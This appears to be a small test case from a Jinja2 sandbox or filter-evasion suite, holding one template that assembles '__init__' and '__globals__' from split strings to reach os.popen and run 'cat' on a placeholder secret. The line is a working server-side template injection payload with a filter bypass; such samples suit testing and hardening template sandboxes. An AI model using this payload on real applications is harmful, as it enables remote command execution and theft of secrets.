# A template puts a name together, for the filter attr.
# effect: run
# tree: scientific
import jinja2
print(jinja2.Template("{{ ((cycler|attr('__in' ~ 'it__')|attr('__glo' ~ 'bals__'))['os']|attr('popen'))('cat @SECRET@').read() }}").render())
